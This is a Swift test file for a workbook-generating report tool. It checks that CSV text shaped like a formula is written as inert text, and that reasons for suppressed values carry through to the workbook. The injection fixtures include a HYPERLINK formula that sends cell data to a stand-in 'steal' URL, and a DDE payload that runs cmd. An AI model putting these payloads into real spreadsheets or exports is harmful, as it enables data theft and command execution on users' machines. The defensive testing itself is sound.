import Foundation
import Indicators
import Testing

@testable import Reports

/// Spreadsheet formula injection: text from an input file that looks like a formula (`=`, `+`,
/// `-`, `@`, a DDE payload) must reach the workbook as text, never as a live formula.
@Suite struct WorkbookInjectionTests {
  /// Hostile indicator names, area codes and area names, as a CSV export could carry them.
  static let title = "=HYPERLINK(\"http://example.com/steal?x=\"&A1,\"Click for details\")"
  static let areas: [(code: String, name: String)] = [
    ("A1", "+1"), ("A2", "-2+3"), ("A3", "@SUM(1+1)"), ("=cmd|' /C calc'!A0", "=1+1"),
  ]

  /// Writes the CSV into `dir` and builds its model through InputLoader and ReportBuilder.
  func hostileModel(_ dir: TemporaryFolder) throws -> ReportModel {
    func quoted(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
    var csv = "indicator_id,indicator_name,area_code,area_name,period,value\n"
    for (k, area) in Self.areas.enumerated() {
      for (year, value) in [(2021, 10.0), (2022, 11.5), (2023, 13.0)] {
        csv += "X1,\(quoted(Self.title)),\(quoted(area.code)),\(quoted(area.name)),\(year),\(value + Double(k))\n"
      }
    }
    let path = dir.file("hostile.csv")
    try csv.write(toFile: path, atomically: true, encoding: .utf8)
    let input = try InputLoader.load(path: path)
    var options = ReportOptions()
    options.generatedAt = 1_700_000_000
    options.backboneVersion = "test"
    return try ReportBuilder.build(inputs: [input], library: nil, chain: nil, options: options)
  }

  /// The model keeps the text as it was (so the test below is about the workbook).
  @Test func modelKeepsTheText() throws {
    let dir = try TemporaryFolder()
    defer { dir.remove() }
    let model = try hostileModel(dir)
    #expect(model.indicators.map(\.title) == [Self.title])
    let names = Set(model.indicators[0].series.compactMap { $0.area?.name })
    #expect(names == Set(Self.areas.map(\.name)))
  }

  /// No worksheet holds a formula, and every hostile text is a text cell holding exactly that
  /// text (openpyxl with formulas kept, so a formula would read as type "f").
  @Test(
    .enabled(if: ExternalTools.openpyxlPython != nil && ExternalTools.hasUnzip, "openpyxl or unzip missing; skipped"))
  func hostileTextStaysText() throws {
    let dir = try TemporaryFolder()
    defer { dir.remove() }
    let model = try hostileModel(dir)
    let layout = try WorkbookLayout.named("indicators", templatesDirectory: packageRoot + "/templates")
    let path = dir.file("hostile.xlsx")
    try FunderWorkbook.write(model, layout: layout, to: path)

    for (name, xml) in try xlsxParts(path) where name.hasPrefix("xl/worksheets/") {
      #expect(!xml.contains("<f>") && !xml.contains("<f "), "\(name) holds a formula")
    }
    let book = try #require(try openpyxlCells([path], formulas: true)[path])
    var texts: [String: Set<String>] = [:]
    for (sheet, cells) in book {
      for (cell, value) in cells {
        #expect(value.first as? String != "f", "\(sheet)!\(cell) is a formula: \(value)")
        if value.first as? String == "s", let s = value.last as? String { texts[s, default: []].insert(sheet) }
      }
    }
    // The indicator's name on Summary, Tracking, Trends and Methods; the area names on Data.
    #expect(
      texts[Self.title]?.isSuperset(of: ["Summary", "Tracking", "Methods"]) == true, "\(texts[Self.title] ?? [])")
    for area in Self.areas {
      #expect(texts[area.name]?.contains("Data") == true, "\(area.name) is not a text cell on Data")
      #expect(texts[area.code]?.contains("Data") == true, "\(area.code) is not a text cell on Data")
    }
    // Summary's Area column shows "name (code)".
    #expect(texts["=1+1 (=cmd|' /C calc'!A0)"]?.contains("Summary") == true)
  }
}

/// Why a value is missing travels from the CSV to the workbook: the Data sheet's
/// absence_reason, the Tracking comments and the Methods footnotes.
@Suite(.enabled(if: ExternalTools.openpyxlPython != nil, "openpyxl (python3-openpyxl) is not installed; skipped"))
struct WorkbookAbsenceTests {
  @Test func suppressedValueIsFootnoted() throws {
    let dir = try TemporaryFolder()
    defer { dir.remove() }
    // 2023/24 Q2 is "*", the usual suppression marker (AbsenceReason.forToken).
    let csv = """
      indicator_id,indicator_name,area_code,area_name,period,value
      Q,Quarterly visits,A,Area,2023/24 Q1,10
      Q,Quarterly visits,A,Area,2023/24 Q2,*
      Q,Quarterly visits,A,Area,2023/24 Q3,12
      Q,Quarterly visits,A,Area,2023/24 Q4,13

      """
    let path = dir.file("visits.csv")
    try csv.write(toFile: path, atomically: true, encoding: .utf8)
    var options = ReportOptions()
    options.generatedAt = 1_700_000_000
    options.fiscalYearStartMonth = 4
    let model = try ReportBuilder.build(
      inputs: [try InputLoader.load(path: path)], library: nil, chain: nil, options: options)
    let out = dir.file("visits.xlsx")
    try FunderWorkbook.write(
      model, layout: try WorkbookLayout.named("iptt", templatesDirectory: packageRoot + "/templates"), to: out)
    let book = try #require(try openpyxlCells([out])[out])
    // Data: header on row 1, the four quarters on rows 2–5; N is absence_reason.
    #expect(book["Data"]?["N3"]?.last as? String == "suppressed")
    #expect(book["Data"]?["I3"] == nil)
    #expect(book["Data"]?["N2"] == nil)
    // Tracking (IPTT): the one series on row 5; K..N the quarters, S the comments.
    #expect(book["Tracking"]?["L5"] == nil)
    #expect((book["Tracking"]?["M5"]?.last as? NSNumber)?.doubleValue == 12)
    let comment = book["Tracking"]?["S5"]?.last as? String ?? ""
    #expect(comment.contains("no value for 2023/24 Q2: suppressed"), "\(comment)")
    let methods = book["Methods"] ?? [:]
    #expect(methods.values.contains { $0.last as? String == "suppressed" })
  }
}
